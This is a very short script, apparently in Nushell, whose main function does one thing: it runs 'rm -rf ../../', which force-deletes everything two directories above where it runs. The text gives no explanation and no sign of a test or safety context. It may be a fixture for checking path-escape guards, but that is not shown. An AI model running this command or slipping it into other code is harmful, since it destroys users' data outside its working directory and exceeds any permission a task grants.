def main [] {
  rm -rf ../../
}
